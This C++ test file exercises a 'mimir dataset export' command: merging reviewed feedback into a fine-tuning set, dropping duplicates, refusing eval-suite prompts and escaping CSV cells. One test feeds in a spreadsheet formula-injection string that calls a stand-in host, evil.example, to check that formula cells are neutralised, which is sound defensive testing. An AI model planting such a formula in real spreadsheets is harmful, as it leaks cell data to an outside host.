// `mimir dataset export` run as a person runs it: the mimir executable, a real feedback store (SQLite, and
// PostgreSQL where a server can be started), the committed data set and eval suite.
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "../data/store_test_backends.h"
#include "data/csv.h"
#include "data/feedback_store.h"
#include "data/fine_tuning_data.h"
#include "support/test_models.h"

namespace mimir {
namespace {

namespace fs = std::filesystem;
using data::FeedbackSubmission;
using data::ReviewState;

const std::string kSource = MIMIR_TEST_SOURCE_DIR;
const std::string kDataSet = kSource + "/data/mimir_fine_tuning.csv";
const std::string kSuite = kSource + "/data/eval_suite.jsonl";

struct CommandRun {
    int exit_code = -1;
    std::string output;  // stdout and stderr
};

std::string read_all(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
}

std::string quoted(const std::string& arg) {
    std::string out = "'";
    for (char c : arg) out += c == '\'' ? std::string("'\\''") : std::string(1, c);
    return out + "'";
}

CommandRun mimir(const std::vector<std::string>& args, const std::string& dir) {
    std::string command = quoted(MIMIR_BINARY);
    for (const std::string& arg : args) command.append(" ").append(quoted(arg));
    const std::string log = dir + "/mimir-output.txt";
    const int status = std::system((command + " >" + quoted(log) + " 2>&1").c_str());
    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, read_all(log)};
}

bool contains(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

FeedbackSubmission submission(std::string prompt, std::string ideal,
                              std::vector<std::string> issues = {"Tone"},
                              std::string notes = "too cheerful") {
    return FeedbackSubmission{.prompt = std::move(prompt),
                              .model_response = "Wow!!! Great question :) The answer is easy!",
                              .issues = std::move(issues),
                              .notes = std::move(notes),
                              .ideal_response = std::move(ideal),
                              .rating = data::Rating::down};
}

// The first prompt of the committed suite: exporting it would contaminate the evaluation.
std::string first_suite_prompt() {
    std::ifstream in(kSuite);
    std::string line;
    std::getline(in, line);
    return nlohmann::json::parse(line).at("prompt");
}

template <typename Backend>
class DatasetExport : public testing::Test {
  protected:
    void SetUp() override {
        if (const std::string reason = Backend::unavailable_reason(); !reason.empty()) GTEST_SKIP() << reason;
        location_ = Backend::fresh_location();
        dir_ = test::scratch_dir();
        Result<std::unique_ptr<data::FeedbackStore>> opened = data::open_feedback_store(location_);
        ASSERT_TRUE(opened.ok()) << opened.error().message;
        store_ = std::move(*opened);
    }

    int64_t put(const FeedbackSubmission& s, ReviewState state) {
        Result<int64_t> id = store_->add(s);
        EXPECT_TRUE(id.ok()) << id.error().message;
        if (state != ReviewState::pending) {
            Result<data::FeedbackRecord> reviewed = store_->review(*id, data::ReviewDecision{.state = state});
            EXPECT_TRUE(reviewed.ok()) << reviewed.error().message;
        }
        return *id;
    }

    std::string location_, dir_;
    std::unique_ptr<data::FeedbackStore> store_;
};

using Backends = testing::Types<test::SqliteBackend, test::PostgresBackend>;
TYPED_TEST_SUITE(DatasetExport, Backends);

TYPED_TEST(DatasetExport, MergesApprovedRowsAfterTheDataSetDropsDuplicatesAndRefusesSuitePrompts) {
    const std::string prompt_new = "How do I find the area of a trapezoid with bases 3 and 5 and height 4?";
    const int64_t kept = this->put(submission(prompt_new, "What do you get when you average the two bases?"),
                                   ReviewState::approved);
    const int64_t pending = this->put(submission("What is a haiku and how many syllables does it have?",
                                                 "A haiku has three lines. How many syllables do you think "
                                                 "the first line has?"),
                                      ReviewState::pending);
    const int64_t rejected =
        this->put(submission("Tell me a joke about cats", "Here is one."), ReviewState::rejected);
    const int64_t no_rewrite =
        this->put(submission("Why do leaves change colour?", ""), ReviewState::approved);
    // "Hello!" is the committed data set's first prompt.
    const int64_t duplicate_of_merge =
        this->put(submission("hello", "Hello! What shall we study?"), ReviewState::approved);
    const int64_t duplicate_of_new =
        this->put(submission(prompt_new + "  ", "Average the bases first."), ReviewState::approved);
    const int64_t contaminated = this->put(
        submission(first_suite_prompt(), "Hello! What would you like to work on?"), ReviewState::approved);

    const std::string out = this->dir_ + "/out.csv";
    const CommandRun run = mimir({"dataset", "export", "--data", this->location_, "--out", out, "--merge",
                                  kDataSet, "--suite", kSuite},
                                 this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;
    const std::string id = "feedback ";
    EXPECT_TRUE(contains(run.output, id + std::to_string(no_rewrite) + ": no ideal response")) << run.output;
    EXPECT_TRUE(
        contains(run.output, id + std::to_string(duplicate_of_merge) + ": duplicate of merge row 1 (line 2)"))
        << run.output;
    EXPECT_TRUE(contains(run.output, id + std::to_string(duplicate_of_new) + ": duplicate of feedback " +
                                         std::to_string(kept)))
        << run.output;
    EXPECT_TRUE(contains(run.output, id + std::to_string(contaminated) + ": refused: its prompt matches " +
                                         kSuite + " case greeting-01 (line 1)"))
        << run.output;
    EXPECT_FALSE(contains(run.output, id + std::to_string(pending) + ":"));
    EXPECT_FALSE(contains(run.output, id + std::to_string(rejected) + ":"));
    EXPECT_TRUE(contains(run.output, "2 duplicates dropped, 1 refused for contamination, 1 skipped"))
        << run.output;

    Result<FineTuningData> merged = read_fine_tuning_csv(kDataSet);
    Result<FineTuningData> written = read_fine_tuning_csv(out);
    ASSERT_TRUE(merged.ok() && written.ok());
    EXPECT_TRUE(written->problems.empty());
    EXPECT_TRUE(written->has_category_column);
    ASSERT_EQ(written->rows.size(), merged->rows.size() + 1);
    for (size_t i = 0; i < merged->rows.size(); ++i) {
        EXPECT_EQ(written->rows[i].prompt, merged->rows[i].prompt) << "row " << i + 1;
        EXPECT_EQ(written->rows[i].model_response, merged->rows[i].model_response) << "row " << i + 1;
        EXPECT_EQ(written->rows[i].issues, merged->rows[i].issues) << "row " << i + 1;
        EXPECT_EQ(written->rows[i].ideal_response, merged->rows[i].ideal_response) << "row " << i + 1;
        EXPECT_EQ(written->rows[i].category, merged->rows[i].category) << "row " << i + 1;
    }
    const FineTuningRow& added = written->rows.back();
    EXPECT_EQ(added.prompt, prompt_new);
    EXPECT_EQ(added.ideal_response, "What do you get when you average the two bases?");
    EXPECT_EQ(added.model_response, "Wow!!! Great question :) The answer is easy!");
    EXPECT_EQ(added.issues, "Tone: too cheerful");

    // The result is a valid training set: no duplicates, nothing from the suite.
    const CommandRun validate = mimir({"dataset", "validate", out, "--suite", kSuite}, this->dir_);
    EXPECT_EQ(validate.exit_code, 0) << validate.output;
}

TYPED_TEST(DatasetExport, AllAddsPendingRowsButNeverRejectedOnes) {
    this->put(submission("What is the capital of Peru?", "Which continent is Peru on?"),
              ReviewState::approved);
    this->put(submission("How does a lever work?", "Where is the pivot in a seesaw?"), ReviewState::pending);
    this->put(submission("Write my history essay", "Let's outline it together."), ReviewState::rejected);
    const std::string out = this->dir_ + "/out.csv";
    const CommandRun run =
        mimir({"dataset", "export", "--data", this->location_, "--out", out, "--all", "--suite", kSuite},
              this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;
    Result<FineTuningData> written = read_fine_tuning_csv(out);
    ASSERT_TRUE(written.ok()) << written.error().message;
    ASSERT_EQ(written->rows.size(), 2u);
    EXPECT_EQ(written->rows[0].prompt, "What is the capital of Peru?");
    EXPECT_EQ(written->rows[1].prompt, "How does a lever work?");
    EXPECT_TRUE(contains(run.output, "read 2 feedback rows (approved and pending)")) << run.output;
}

TYPED_TEST(DatasetExport, FormulaCellsAreEscapedOnDiskAndReadBackAsWrittenWithUnicodeIntact) {
    const std::string formula_prompt =
        "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\") what does this do?";
    const std::string bullets = "- First, find the common denominator.\n- Then add the numerators. 🙂";
    const std::string unicode = "Ça veut dire quoi « 勉強 » ? Explique-moi 😀, s'il te plaît.";
    this->put(
        submission(formula_prompt, "@Mimir says: what does each part do?", {"Accuracy"}, "+1 to fixing"),
        ReviewState::approved);
    this->put(submission("How do I add 1/3 and 1/4?", bullets), ReviewState::approved);
    this->put(submission(unicode, "« 勉強 » veut dire « étudier ». Dans quelle phrase l'as-tu vu ?"),
              ReviewState::approved);
    const std::string out = this->dir_ + "/out.csv";
    const CommandRun run =
        mimir({"dataset", "export", "--data", this->location_, "--out", out, "--suite", kSuite}, this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;

    // As a spreadsheet parses the file: no cell starts a formula.
    Result<CsvTable> table = read_csv_file(out);
    ASSERT_TRUE(table.ok());
    for (const CsvRecord& record : table->records) {
        for (const std::string& cell : record.fields)
            EXPECT_FALSE(!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos) << cell;
    }
    EXPECT_EQ(table->records[0].fields[0], "'" + formula_prompt);
    EXPECT_EQ(table->records[0].fields[2], "Accuracy: +1 to fixing");  // only a cell's first character counts

    // Mimir's reader gives the text back as it was submitted.
    Result<FineTuningData> written = read_fine_tuning_csv(out);
    ASSERT_TRUE(written.ok());
    ASSERT_EQ(written->rows.size(), 3u);
    EXPECT_EQ(written->rows[0].prompt, formula_prompt);
    EXPECT_EQ(written->rows[0].ideal_response, "@Mimir says: what does each part do?");
    EXPECT_EQ(written->rows[1].ideal_response, bullets);
    EXPECT_EQ(written->rows[2].prompt, unicode);
    const CommandRun validate = mimir({"dataset", "validate", out, "--suite", kSuite}, this->dir_);
    EXPECT_EQ(validate.exit_code, 0) << validate.output;
}

TYPED_TEST(DatasetExport, TrlFormatsWriteJsonLines) {
    this->put(submission("What is 7 times 8?", "What is 7 times 4, and how could that help?"),
              ReviewState::approved);
    this->put(submission("Define osmosis", "Wow!!! Great question :) The answer is easy!"),
              ReviewState::approved);
    const std::string completions = this->dir_ + "/sft.jsonl";
    CommandRun run = mimir({"dataset", "export", "--data", this->location_, "--out", completions, "--format",
                            "trl", "--suite", kSuite},
                           this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;
    std::istringstream lines(read_all(completions));
    std::string line;
    std::vector<nlohmann::json> objects;
    while (std::getline(lines, line)) objects.push_back(nlohmann::json::parse(line));
    ASSERT_EQ(objects.size(), 2u);
    EXPECT_EQ(objects[0], (nlohmann::json{{"prompt", "What is 7 times 8?"},
                                          {"completion", "What is 7 times 4, and how could that help?"}}));

    const std::string preferences = this->dir_ + "/dpo.jsonl";
    run = mimir({"dataset", "export", "--data", this->location_, "--out", preferences, "--format",
                 "trl-preference", "--suite", kSuite},
                this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;
    // The second row's rewrite equals the model's reply: no preference pair in it.
    EXPECT_TRUE(contains(run.output, "1 row without a distinct model reply left out")) << run.output;
    const nlohmann::json pair = nlohmann::json::parse(read_all(preferences));
    EXPECT_EQ(pair, (nlohmann::json{{"prompt", "What is 7 times 8?"},
                                    {"chosen", "What is 7 times 4, and how could that help?"},
                                    {"rejected", "Wow!!! Great question :) The answer is easy!"}}));
}

TYPED_TEST(DatasetExport, NothingToExportLeavesTheOutputAlone) {
    this->put(submission("What is a noun?", ""), ReviewState::approved);
    const std::string out = this->dir_ + "/out.csv";
    std::ofstream(out) << "old contents\n";
    const CommandRun run =
        mimir({"dataset", "export", "--data", this->location_, "--out", out, "--suite", kSuite}, this->dir_);
    EXPECT_EQ(run.exit_code, 1);
    EXPECT_TRUE(contains(run.output, "no_rows: nothing to write")) << run.output;
    EXPECT_EQ(read_all(out), "old contents\n");
}

TYPED_TEST(DatasetExport, MergesInPlaceAndRefusesAMergeFileWithUnusableRows) {
    this->put(submission("How do magnets attract metal?", "Which metals have you seen a magnet pick up?"),
              ReviewState::approved);
    const std::string data_set = this->dir_ + "/data.csv";
    std::ofstream(data_set) << "Prompt,Model Response,Issues,Ideal Response\nWhat is 2+2?,4!!!,Tone: loud.,"
                               "What is 2+1?\n";
    CommandRun run = mimir({"dataset", "export", "--data", this->location_, "--merge", data_set, "--out",
                            data_set, "--suite", kSuite},
                           this->dir_);
    ASSERT_EQ(run.exit_code, 0) << run.output;
    Result<FineTuningData> written = read_fine_tuning_csv(data_set);
    ASSERT_TRUE(written.ok());
    ASSERT_EQ(written->rows.size(), 2u);
    EXPECT_EQ(written->rows[0].prompt, "What is 2+2?");
    EXPECT_EQ(written->rows[1].prompt, "How do magnets attract metal?");
    EXPECT_FALSE(written->has_category_column);

    // JSON Lines over the merge file would lose the CSV.
    run = mimir({"dataset", "export", "--data", this->location_, "--merge", data_set, "--out", data_set,
                 "--format", "trl", "--suite", kSuite},
                this->dir_);
    EXPECT_EQ(run.exit_code, 1);
    EXPECT_TRUE(contains(run.output, "invalid_arguments: --out " + data_set + " is the --merge file"))
        << run.output;
    EXPECT_TRUE(read_fine_tuning_csv(data_set).ok());

    // A row without an ideal response would be lost by rewriting the file: the export stops instead.
    const std::string before = "Prompt,Ideal Response\nWhat is 2+2?,What is 2+1?\nWhat is 3+3?,\n";
    std::ofstream(data_set, std::ios::trunc) << before;
    run = mimir({"dataset", "export", "--data", this->location_, "--merge", data_set, "--out", data_set,
                 "--suite", kSuite},
                this->dir_);
    EXPECT_EQ(run.exit_code, 1);
    EXPECT_TRUE(contains(run.output, "unusable_rows: " + data_set +
                                         ": 1 unusable row, first row 2 (line 3): "
                                         "missing ideal response"))
        << run.output;
    EXPECT_EQ(read_all(data_set), before);
}

TEST(DatasetExportErrors, AMissingStoreFileIsNamedAndNotCreated) {
    const std::string dir = test::scratch_dir();
    const std::string missing = dir + "/no-such/feedback.db";
    const CommandRun run = mimir({"dataset", "export", "--data", missing, "--out", dir + "/out.csv"}, dir);
    EXPECT_EQ(run.exit_code, 1);
    EXPECT_TRUE(contains(run.output, "not_found: " + missing + ": no feedback store there")) << run.output;
    EXPECT_FALSE(fs::exists(missing));
    EXPECT_FALSE(fs::exists(dir + "/out.csv"));
}

TEST(DatasetExportErrors, AnUnreachableServerIsNamed) {
    const std::string dir = test::scratch_dir();
    // Port 1 on the loopback: nothing listens there, so the connection is refused at once.
    const CommandRun run =
        mimir({"dataset", "export", "--data", "postgresql://mimir:secret@127.0.0.1:1/feedback", "--out",
               dir + "/out.csv"},
              dir);
    EXPECT_EQ(run.exit_code, 1);
    EXPECT_TRUE(contains(run.output, "store_unavailable")) << run.output;
    EXPECT_TRUE(contains(run.output, "127.0.0.1")) << run.output;
    EXPECT_FALSE(contains(run.output, "secret")) << run.output;
}

TEST(DatasetExportErrors, AFileThatIsNotAStoreAndAnUnwritableOutputAreNamed) {
    const std::string dir = test::scratch_dir();
    const CommandRun not_a_store =
        mimir({"dataset", "export", "--data", kDataSet, "--out", dir + "/out.csv"}, dir);
    EXPECT_EQ(not_a_store.exit_code, 1);
    EXPECT_TRUE(contains(not_a_store.output, "store_unavailable: " + kDataSet)) << not_a_store.output;

    const std::string store = dir + "/feedback.db";
    {
        Result<std::unique_ptr<data::FeedbackStore>> opened = data::open_feedback_store(store);
        ASSERT_TRUE(opened.ok());
        Result<int64_t> id = (*opened)->add(submission("What is a verb?", "What do you do when you run?"));
        ASSERT_TRUE(id.ok());
        ASSERT_TRUE((*opened)->review(*id, data::ReviewDecision{.state = ReviewState::approved}).ok());
    }
    const CommandRun unwritable = mimir(
        {"dataset", "export", "--data", store, "--out", dir + "/missing-folder/out.csv", "--suite", kSuite},
        dir);
    EXPECT_EQ(unwritable.exit_code, 1);
    EXPECT_TRUE(contains(unwritable.output, "write_failed")) << unwritable.output;
    EXPECT_TRUE(contains(unwritable.output, dir + "/missing-folder/out.csv")) << unwritable.output;
}

}  // namespace
}  // namespace mimir
